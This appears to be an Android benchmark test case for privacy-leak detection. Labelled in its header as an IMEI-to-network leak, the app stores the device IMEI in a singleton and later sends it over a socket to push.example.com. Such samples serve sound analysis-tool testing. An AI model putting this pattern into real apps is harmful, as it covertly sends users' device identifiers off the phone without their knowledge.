// about       The application keeps the id in a singleton; a screen sends it later.
// leak        DEV_IMEI network
// application cn.example.flow.MainActivity$App
package cn.example.flow;

import android.app.Activity;
import android.app.Application;
import android.telephony.TelephonyManager;
import android.util.Log;
import java.io.IOException;
import java.io.PrintWriter;
import java.net.Socket;

public class MainActivity extends Activity implements Runnable {
  @Override
  protected void onResume() {
    super.onResume();
    new Thread(this).start();
  }

  @Override
  public void run() {
    // Filled long before.
    String text = Device.get().getId();
    try {
      Socket socket = new Socket("push.example.com", 7000);
      PrintWriter writer = new PrintWriter(socket.getOutputStream(), true);
      writer.println("HELLO " + text);
      socket.close();
    } catch (IOException e) {
      Log.w("flow", "offline");
    }
  }

  public static class App extends Application {
    @Override
    public void onCreate() {
      super.onCreate();
      TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
      Device.get().fill(phone.getDeviceId(), "store");
    }
  }
}

class Device {
  private static Device device;

  private String id;
  private String channel;

  static synchronized Device get() {
    if (device == null) {
      device = new Device();
    }
    return device;
  }

  void fill(String id, String channel) {
    this.id = id;
    this.channel = channel;
  }

  String getId() {
    return id;
  }

  String getChannel() {
    return channel;
  }
}
